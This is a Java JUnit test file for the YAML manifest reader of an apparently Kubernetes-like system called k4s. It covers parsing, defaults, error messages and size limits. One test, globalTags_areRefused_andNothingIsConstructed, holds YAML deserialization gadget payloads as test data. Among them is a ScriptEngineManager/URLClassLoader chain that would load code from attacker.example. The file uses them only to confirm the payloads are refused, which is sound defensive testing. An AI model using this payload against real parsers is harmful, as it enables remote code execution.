package io.k4s.core.manifest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.k4s.api.resource.Container;
import io.k4s.api.resource.ContainerExecutor;
import io.k4s.api.resource.ContainerTemplate;
import io.k4s.api.resource.LoadBalancing;
import io.k4s.api.resource.ManifestError;
import io.k4s.api.resource.ManifestException;
import io.k4s.api.resource.ReplicaSet;
import io.k4s.api.resource.Resource;
import io.k4s.api.resource.ResourceNames;
import io.k4s.api.resource.RestartPolicy;
import io.k4s.api.resource.Selector;
import io.k4s.api.resource.Service;
import java.io.Reader;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ManifestReaderTest {

    private final ManifestReader reader = new ManifestReader();

    @Test
    void malformedTagHandle_isAManifestErrorNotACrash() {
        // Found by the CI fuzz run: SnakeYAML throws IllegalArgumentException for "!%e".
        ManifestException e = assertThrows(ManifestException.class, () -> reader.read("k: !%e", "t.yaml"));
        ManifestError error = e.errors().getFirst();
        assertEquals(1, error.line());
        assertTrue(error.message().startsWith("malformed tag"), error.message());
    }

    @Test
    void readsTheDesignExample() {
        List<Resource> resources = reader.read("""
                apiVersion: k4s.io/v1
                kind: ReplicaSet
                metadata: {name: calc}
                spec:
                  replicas: 3
                  template:
                    metadata: {labels: {app: calc}}
                    spec: {worker: calculator, params: {precision: 4}}
                ---
                apiVersion: k4s.io/v1
                kind: Service
                metadata: {name: calc}
                spec: {selector: "calc-*", loadBalancing: RoundRobin}
                """);

        ReplicaSet rs = assertInstanceOf(ReplicaSet.class, resources.get(0));
        assertEquals("default", rs.metadata().namespace());
        assertEquals(3, rs.spec().replicas());
        ContainerTemplate template = rs.spec().template();
        assertEquals(Map.of("app", "calc"), template.labels());
        assertEquals("calculator", template.spec().worker());
        assertEquals(Map.of("precision", 4), template.spec().params());
        Service svc = assertInstanceOf(Service.class, resources.get(1));
        assertEquals(Selector.glob("calc-*"), svc.spec().selector());
        assertEquals(LoadBalancing.ROUND_ROBIN, svc.spec().loadBalancing());
    }

    @Test
    void defaults_whenFieldsAreLeftOut() {
        ReplicaSet rs = (ReplicaSet) reader.read(
                "kind: ReplicaSet\nmetadata: {name: r}\nspec: {template: {spec: {worker: echo}}}\n").getFirst();
        Service svc = (Service) reader.read(
                "kind: Service\nmetadata: {name: s}\nspec: {selector: {app: x}}\n").getFirst();

        assertEquals(1, rs.spec().replicas());
        assertEquals(RestartPolicy.ALWAYS, rs.spec().template().spec().restartPolicy());
        assertEquals(1000, rs.spec().template().spec().mailboxCapacity());
        assertEquals(Duration.ofSeconds(5), rs.spec().template().spec().terminationGracePeriod());
        assertEquals(LoadBalancing.RANDOM, svc.spec().loadBalancing());
        assertEquals(Selector.labels(Map.of("app", "x")), svc.spec().selector());
    }

    @Test
    void params_becomePlainJavaValues() {
        Container c = (Container) reader.read("""
                kind: Container
                metadata: {name: c}
                spec:
                  worker: echo
                  params:
                    int: 42
                    long: 10000000000
                    hex: 0x1F
                    double: 2.5
                    bool: true
                    text: hello
                    quoted: "7"
                    none: null
                    date: 2026-01-02
                    list: [1, two, {three: 3}]
                """).getFirst();

        Map<String, Object> p = c.spec().params();
        assertEquals(42, p.get("int"));
        assertEquals(10_000_000_000L, p.get("long"));
        assertEquals(31, p.get("hex"));
        assertEquals(2.5, p.get("double"));
        assertEquals(true, p.get("bool"));
        assertEquals("hello", p.get("text"));
        assertEquals("7", p.get("quoted"));
        assertTrue(p.containsKey("none"));
        assertNull(p.get("none"));
        assertEquals("2026-01-02", p.get("date"), "timestamps stay text");
        assertEquals(List.of(1, "two", Map.of("three", 3)), p.get("list"));
    }

    @Test
    void durations_acceptTheUsualForms() {
        for (var form : Map.of("5s", Duration.ofSeconds(5), "250ms", Duration.ofMillis(250), "PT1.5S",
                Duration.ofMillis(1500), "2m", Duration.ofMinutes(2), "1500", Duration.ofMillis(1500)).entrySet()) {
            Container c = (Container) reader.read("kind: Container\nmetadata: {name: c}\nspec: {worker: echo, "
                    + "terminationGracePeriod: " + form.getKey() + "}\n").getFirst();
            assertEquals(form.getValue(), c.spec().terminationGracePeriod(), form.getKey());
        }
    }

    @Test
    void executor_isVirtualByDefault_platformOnRequest_andAnythingElseIsAnError() {
        Container plain = (Container) reader.read("kind: Container\nmetadata: {name: c}\nspec: {worker: echo}\n")
                .getFirst();
        Container platform = (Container) reader.read(
                "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, executor: platform}\n").getFirst();
        ManifestException e = assertThrows(ManifestException.class, () -> reader.read(
                "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, executor: platfrom}\n"));

        assertEquals(ContainerExecutor.VIRTUAL, plain.spec().executor());
        assertEquals(ContainerExecutor.PLATFORM, platform.spec().executor());
        assertEquals("<string>:3:32: Container \"c\": spec.executor: expected one of virtual, platform, got"
                + " \"platfrom\"; did you mean \"platform\"?", e.getMessage());
    }

    @Test
    void nodeNameAndNodeSelector_areReadInContainersAndTemplates_andBadOnesAreErrorsWithTheirPlace() {
        Container bound = (Container) reader.read("kind: Container\nmetadata: {name: c}\n"
                + "spec: {worker: echo, nodeName: n1, nodeSelector: {zone: a}}\n").getFirst();
        ReplicaSet rs = (ReplicaSet) reader.read("kind: ReplicaSet\nmetadata: {name: r}\n"
                + "spec: {template: {spec: {worker: echo, nodeSelector: {disk: ssd}}}}\n").getFirst();
        ManifestException badName = assertThrows(ManifestException.class, () -> reader.read(
                "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, nodeName: N_1}\n"));
        ManifestException badSelector = assertThrows(ManifestException.class, () -> reader.read(
                "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, nodeSelector: [zone]}\n"));

        assertEquals("n1", bound.spec().nodeName());
        assertEquals(Map.of("zone", "a"), bound.spec().nodeSelector());
        assertEquals(Map.of("disk", "ssd"), rs.spec().template().spec().nodeSelector());
        assertNull(rs.spec().template().spec().nodeName(), "unscheduled by default");
        assertTrue(badName.getMessage().startsWith("<string>:3:32: Container \"c\": spec.nodeName: \"N_1\" is not"
                + " a valid name"), badName.getMessage());
        assertTrue(badSelector.getMessage().startsWith("<string>:3:36: Container \"c\": spec.nodeSelector: "),
                badSelector.getMessage());
    }

    @Test
    void errorsOfAllDocuments_areReportedTogether_andNothingIsReturned() {
        ManifestException e = assertThrows(ManifestException.class, () -> reader.read("""
                kind: Container
                metadata: {name: good}
                spec: {worker: echo}
                ---
                kind: Container
                metadata: {name: bad}
                spec: {worker: echo, mailboxCapacity: lots}
                ---
                kind: Service
                metadata: {name: worse}
                spec: {selector: "a[", loadBalancing: Sticky}
                """));

        assertEquals(List.of(7, 11, 11), e.errors().stream().map(ManifestError::line).toList());
        assertEquals("<string>", e.errors().getFirst().source());
        assertEquals(new ManifestError("<string>", 7, 39, "Container", "bad", "spec.mailboxCapacity",
                "expected a positive integer, got \"lots\""), e.errors().getFirst());
    }

    @Test
    void sourceName_isUsedInErrors() {
        ManifestException e = assertThrows(ManifestException.class,
                () -> reader.read("kind: Nope\nmetadata: {name: a}\nspec: {}\n", "app.yaml"));

        assertEquals("app.yaml:1:7: \"a\": kind: unknown kind \"Nope\" (known kinds: ConfigMap, Container, CronJob,"
                + " Deployment, Event, HorizontalAutoscaler, Image, Job, Namespace, ReplicaSet, Secret, Service)", e.getMessage());
    }

    @Test
    void readPath_namesThePathAsGiven(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("app.yaml");
        Files.writeString(file, "kind: Container\nmetadata: {name: c}\nspec: {worker: 3}\n");

        ManifestException e = assertThrows(ManifestException.class, () -> reader.read(file));

        assertEquals(file + ":3:16: Container \"c\": spec.worker: expected a string, got 3 (quote it: \"3\")",
                e.getMessage());
        assertThrows(UncheckedIOException.class, () -> reader.read(dir.resolve("missing.yaml")));
    }

    @Test
    void globalTags_areRefused_andNothingIsConstructed() {
        int before = Tripwire.BUILT.get();
        String container = "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, params: {x: %s}}\n";
        for (String yaml : List.of(
                container.formatted("!!io.k4s.core.manifest.Tripwire []"),
                "!!io.k4s.core.manifest.Tripwire\nkind: Container\n",
                container.formatted("!<tag:yaml.org,2002:io.k4s.core.manifest.Tripwire> {}"),
                container.formatted("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                        + " [[!!java.net.URL [\"http://attacker.example/\"]]]]"))) {
            ManifestException e = assertThrows(ManifestException.class, () -> reader.read(yaml));
            assertTrue(e.getMessage().contains("tags are not allowed"), e.getMessage());
        }
        assertEquals(before, Tripwire.BUILT.get(), "no object was built from a tag");
    }

    @Test
    void standardTags_areAllowed() {
        Container c = (Container) reader.read("kind: Container\nmetadata: {name: !!str c}\n"
                + "spec: {worker: echo, params: {n: !!int 3, s: !!str 4}}\n").getFirst();

        assertEquals(Map.of("n", 3, "s", "4"), c.spec().params());
    }

    @Test
    void aDocumentOverThreeMegabytes_isRefused() {
        StringBuilder yaml = new StringBuilder(
                "kind: Container\nmetadata: {name: big}\nspec:\n  worker: echo\n  params:\n");
        for (int i = 0; yaml.length() <= YamlDocuments.MAX_CODE_POINTS; i++) {
            yaml.append("    key").append(i).append(": some value ").append(i).append('\n');
        }

        ManifestException e = assertThrows(ManifestException.class, () -> reader.read(yaml.toString()));

        ManifestError error = e.errors().getFirst();
        assertEquals("the manifest is too large (limit 3145728 characters, 3 MB); split it into several files",
                error.message());
        assertTrue(error.line() > 5, "at the position reading stopped: " + error);
    }

    @Test
    void aStreamOverThreeMegabytes_isRefusedAsSoonAsTheLimitPasses() {
        String doc = "---\nkind: Container\nmetadata: {name: c}\nspec: {worker: echo}\n# " + "x".repeat(8192) + "\n";
        long total = 50L * 1024 * 1024;
        CountingReader endless = new CountingReader(doc, total);

        ManifestException e = assertThrows(ManifestException.class, () -> reader.read(endless, "big.yaml"));

        ManifestError error = e.errors().getFirst();
        assertEquals("the manifest is too large (limit 3145728 characters, 3 MB); split it into several files",
                error.message());
        assertTrue(endless.served < YamlDocuments.MAX_CODE_POINTS + 64 * 1024,
                "read " + endless.served + " characters of " + total + " before refusing");
    }

    /** Serves {@code unit} again and again up to {@code total} characters, counting what it served. */
    private static final class CountingReader extends Reader {
        private final String unit;
        private final long total;
        long served;

        CountingReader(String unit, long total) {
            this.unit = unit;
            this.total = total;
        }

        @Override
        public int read(char[] buffer, int offset, int length) {
            if (served >= total) {
                return -1;
            }
            int n = (int) Math.min(length, total - served);
            for (int i = 0; i < n; i++) {
                buffer[offset + i] = unit.charAt((int) ((served + i) % unit.length()));
            }
            served += n;
            return n;
        }

        @Override
        public void close() {
        }
    }

    @Test
    void replicaSetNameWithoutRoomForItsContainersIndices_isRefusedAtTheName() {
        String longest = "r".repeat(ResourceNames.MAX_REPLICA_SET_NAME_LENGTH);
        String yaml = "kind: ReplicaSet\nmetadata: {name: %s}\nspec: {replicas: 1, template: {spec: {worker: echo}}}\n";

        ReplicaSet fits = (ReplicaSet) reader.read(yaml.formatted(longest)).getFirst();
        ManifestException e = assertThrows(ManifestException.class, () -> reader.read(yaml.formatted(longest + "r")));

        assertEquals(246, fits.metadata().name().length());
        ManifestError error = e.errors().getFirst();
        assertEquals("metadata.name", error.field());
        assertEquals(2, error.line());
        assertEquals(18, error.column(), "at the name itself");
        assertTrue(error.message().startsWith("name is 247 characters long; a ReplicaSet's containers are named"
                + " NAME-INDEX, and NAME-999999"), error.message());
        assertTrue(error.message().endsWith("use at most 246"), error.message());
    }

    @Test
    void withWorkerCheck_returnsACopy_andChecksTemplatesToo() {
        String yaml = "kind: ReplicaSet\nmetadata: {name: r}\nspec: {template: {spec: {worker: nope}}}\n";
        ManifestReader checking = reader.withWorkerCheck(w -> w.equals("nope") ? "unknown worker type \"nope\"" : null);

        ManifestException e = assertThrows(ManifestException.class, () -> checking.read(yaml));

        assertEquals("<string>:3:34: ReplicaSet \"r\": spec.template.spec.worker: unknown worker type \"nope\"",
                e.getMessage());
        assertEquals(1, reader.read(yaml).size(), "the original reader does not check");
    }

    @Test
    void controlCharacters_areReportedWhereTheyAre() {
        ManifestException e = assertThrows(ManifestException.class,
                () -> reader.read("kind: Container\nmetadata: {name: x}\nspec: {worker: \"a\u0001\"}\n"));

        assertEquals("<string>:3:18: character U+0001 is not allowed in YAML: remove it or write it as an escape"
                + " in a double-quoted string", e.getMessage());
    }

    @Test
    void textThatIsNotUtf8_isAnError_andAFailingReaderIsAnIoError(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("latin1.yaml");
        Files.write(file, new byte[] {'k', 'i', 'n', 'd', ':', ' ', (byte) 0xC3, '(', '\n'});
        java.io.Reader broken = new java.io.Reader() {
            @Override
            public int read(char[] buffer, int from, int length) throws java.io.IOException {
                throw new java.io.IOException("disk on fire");
            }

            @Override
            public void close() {
            }
        };

        ManifestException e = assertThrows(ManifestException.class, () -> reader.read(file));
        UncheckedIOException io = assertThrows(UncheckedIOException.class, () -> reader.read(broken, "x.yaml"));

        assertEquals(file + ":0:0: the text is not valid UTF-8; save the file as UTF-8", e.getMessage());
        assertTrue(io.getMessage().contains("x.yaml") && io.getMessage().contains("disk on fire"), io.getMessage());
    }

    @Test
    void emptyInput_readsNothing() {
        assertEquals(List.of(), reader.read(""));
        assertEquals(List.of(), reader.read("# only a comment\n---\n---\n"));
    }

    @Test
    void anUnknownWorker_isReportedWithTheOtherErrorsOfItsSpec() {
        ManifestReader checking = reader.withWorkerCheck(w -> w.equals("echo") ? null : "unknown worker type \"" + w + "\"");

        ManifestException e = assertThrows(ManifestException.class, () -> checking.read(
                "kind: Container\nmetadata: {name: c}\nspec: {worker: ecko, mailboxCapacity: lots}\n"));

        assertEquals(List.of("<string>:3:16: Container \"c\": spec.worker: unknown worker type \"ecko\"",
                "<string>:3:39: Container \"c\": spec.mailboxCapacity: expected a positive integer, got \"lots\""),
                Arrays.asList(e.getMessage().split("\n")));
    }

    @Test
    void metadataFieldsOfTheDeleteAndCreateProtocols_areRead() {
        Container c = (Container) reader.read("""
                kind: Container
                metadata:
                  generateName: calc-
                  finalizers: [k4s.io/drain]
                  deletionTimestamp: 2026-01-02T03:04:05Z
                  deletionGracePeriodSeconds: 30
                  resourceVersion: "17"
                  ownerReferences:
                    - {apiVersion: k4s.io/v1, kind: ReplicaSet, name: calc, uid: u-1, blockOwnerDeletion: true}
                spec: {worker: echo}
                """).getFirst();

        assertNull(c.metadata().name());
        assertEquals("calc-", c.metadata().generateName());
        assertEquals(List.of("k4s.io/drain"), c.metadata().finalizers());
        assertEquals(30L, c.metadata().deletionGracePeriodSeconds());
        assertEquals(17, c.metadata().resourceVersion());
        assertTrue(c.metadata().ownerReferences().getFirst().blockOwnerDeletion());
        ManifestException neither = assertThrows(ManifestException.class,
                () -> reader.read("kind: Container\nmetadata: {namespace: x}\nspec: {worker: echo}\n"));
        assertEquals("<string>:2:11: Container: metadata.name: missing required field", neither.getMessage());
    }

    @Test
    void duplicateKeys_inParams_areErrorsToo() {
        String yaml = "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, params: {a: 1, a: 2}}\n";

        ManifestException e = assertThrows(ManifestException.class, () -> reader.read(yaml));

        assertEquals(List.of("<string>:3:37: Container \"c\": spec.params.a: duplicate key \"a\""
                        + " (first at line 3, column 31)"),
                Arrays.asList(e.getMessage().split("\n")));
    }
}
